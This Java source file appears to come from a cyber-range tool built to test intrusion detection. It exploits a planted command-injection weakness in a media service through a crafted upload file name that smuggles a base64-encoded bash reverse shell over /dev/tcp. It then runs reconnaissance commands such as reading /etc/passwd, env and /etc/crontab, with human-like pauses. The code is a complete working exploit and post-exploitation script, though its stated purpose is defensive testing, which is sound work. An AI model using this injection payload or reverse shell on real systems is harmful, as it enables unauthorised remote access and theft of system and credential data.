package io.distappguard.range.attack;

import io.distappguard.range.client.HttpResponse;
import io.distappguard.range.client.OneLineErrors;
import io.distappguard.range.client.SocialNetworkClient;
import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import picocli.CommandLine.Command;
import picocli.CommandLine.Option;

/**
 * Uploads media to the range's social network under a file name that the media service's planted
 * weakness runs as a command: a shell that connects back. Over it, with the pauses of a person,
 * looks around and reads files, then leaves. Happened when the output of the commands came back.
 * Exists only to test detection.
 */
@Command(
    name = "ReverseShell",
    mixinStandardHelpOptions = true,
    sortOptions = false,
    description = "Takes a shell in the range's media service, to test detection.")
public final class ReverseShell extends AttackProgram {
  private static final List<String> FIRST_LOOK =
      List.of("whoami", "id", "cat /etc/hostname", "cat /etc/passwd", "env", "pwd", "ls -la");
  private static final List<String> ELSEWHERE =
      List.of(
          "cat /etc/os-release",
          "cat /etc/hosts",
          "cat /etc/group",
          "cat /proc/version",
          "cat /proc/net/tcp",
          "cat /etc/resolv.conf",
          "cat /etc/crontab");
  private static final int ELSEWHERE_READ = 2;
  private static final int OWN_FILES_READ = 3;
  private static final int LONGEST_PAUSE_SECONDS = 60;

  @Option(
      names = "--rate",
      defaultValue = "0",
      description =
          "Mean commands a second; 0 spreads them over four fifths of --seconds (default:"
              + " ${DEFAULT-VALUE}).")
  private double rate;

  private final List<String> commandsRun = new ArrayList<>();
  private long bytesReceived;

  public ReverseShell() {
    super("reverse-shell");
  }

  public static void main(String[] arguments) {
    System.exit(OneLineErrors.execute(new ReverseShell(), arguments));
  }

  @Override
  boolean attack(Field field) throws IOException, InterruptedException {
    if (!(rate >= 0 && rate <= 1_000)) {
      throw new IllegalArgumentException("rate: " + rate + " (expected: 0 to 1000)");
    }
    try (ServerSocket listener = UserTableTheft.listen(field.ownAddress())) {
      String address = field.ownAddress().getHostAddress();
      state("listening", address + ":" + listener.getLocalPort());
      upload(field, fileName(address, listener.getLocalPort()));
      listener.setSoTimeout((int) Math.clamp(field.nanosLeft() / 1_000_000, 1, 20_000));
      try (Socket socket = listener.accept()) {
        return lookAround(field, new Shell(socket, field.deadline()));
      }
    } finally {
      state("commands", List.copyOf(commandsRun));
      state("bytesReceived", bytesReceived);
    }
  }

  /**
   * A file name that ends the quoted word it is put into, starts the shell in the background and
   * makes a comment of the rest of the line, so the command runs once however often the name is
   * used. The shell's own command travels in base64, chosen free of '/', which no file name may
   * hold; {@code exec} leaves no process behind that holds the pipes of the service.
   */
  static String fileName(String address, int port) {
    String command = "exec bash -i >& /dev/tcp/" + address + "/" + port + " 0>&1";
    String encoded = encode(command);
    while (encoded.contains("/")) {
      command = " " + command;
      encoded = encode(command);
    }
    return "holiday.jpg';(echo " + encoded + "|base64 -d|bash&)#";
  }

  private static String encode(String command) {
    return Base64.getEncoder().encodeToString((command + "\n").getBytes(StandardCharsets.UTF_8));
  }

  private void upload(Field field, String fileName) throws IOException {
    byte[] picture = new byte[20_000];
    field.random().nextBytes(picture);
    try (SocialNetworkClient client = field.connect()) {
      String username = "visitor" + Long.toUnsignedString(field.random().nextLong(), 36);
      state("username", username);
      client.register(username, "password-of-" + username);
      HttpResponse login = client.login(username, "password-of-" + username);
      if (login.status() != 200) {
        throw new IOException("could not log in as " + username + ": status " + login.status());
      }
      HttpResponse uploaded = client.uploadMedia(login.field("token"), fileName, picture);
      state("uploadStatus", uploaded.status());
    }
  }

  private boolean lookAround(Field field, Shell shell) throws IOException, InterruptedException {
    shell.untilPrompt();
    boolean identified = false;
    boolean passwordsRead = false;
    List<String> ownFiles = List.of();
    for (String command : FIRST_LOOK) {
      String output = run(field, shell, command);
      identified |= command.equals("id") && output.contains("uid=");
      passwordsRead |= command.equals("cat /etc/passwd") && output.contains("root:");
      if (command.equals("ls -la")) {
        ownFiles = filesIn(output);
      }
    }
    for (String file : choose(field, ownFiles, OWN_FILES_READ)) {
      run(field, shell, "cat " + file);
    }
    for (String command : choose(field, ELSEWHERE, ELSEWHERE_READ)) {
      run(field, shell, command);
    }
    shell.leave();
    return identified && passwordsRead;
  }

  /** Runs one command after a pause; nothing any more when the time is over. */
  private String run(Field field, Shell shell, String command)
      throws IOException, InterruptedException {
    long pauseMillis = pauseMillis(field);
    if (field.nanosLeft() <= pauseMillis * 1_000_000) {
      return "";
    }
    Thread.sleep(pauseMillis);
    commandsRun.add(command);
    String output = shell.run(command);
    bytesReceived += output.length();
    return output;
  }

  /** Log-normal: mostly quick typing, now and then a long think. */
  private long pauseMillis(Field field) {
    int commandsLeft = FIRST_LOOK.size() + OWN_FILES_READ + ELSEWHERE_READ - commandsRun.size();
    double secondsLeft = field.nanosLeft() / 1e9;
    double meanSeconds = rate > 0 ? 1 / rate : 0.8 * secondsLeft / commandsLeft;
    double deviation = 0.6;
    double factor = Math.exp(deviation * field.random().nextGaussian() - deviation * deviation / 2);
    return (long) (1_000 * Math.min(meanSeconds * factor, LONGEST_PAUSE_SECONDS));
  }

  /** Names of the plain files in the output of {@code ls -la}, without any a shell would expand. */
  private static List<String> filesIn(String listing) {
    List<String> files = new ArrayList<>();
    for (String line : listing.lines().toList()) {
      String[] words = line.trim().split("\\s+");
      String name = words[words.length - 1];
      if (line.startsWith("-") && words.length == 9 && name.matches("[A-Za-z0-9._-]+")) {
        files.add(name);
      }
    }
    return files;
  }

  private static List<String> choose(Field field, List<String> from, int count) {
    List<String> left = new ArrayList<>(from);
    List<String> chosen = new ArrayList<>();
    while (chosen.size() < count && !left.isEmpty()) {
      chosen.add(left.remove(field.random().nextInt(left.size())));
    }
    return chosen;
  }
}
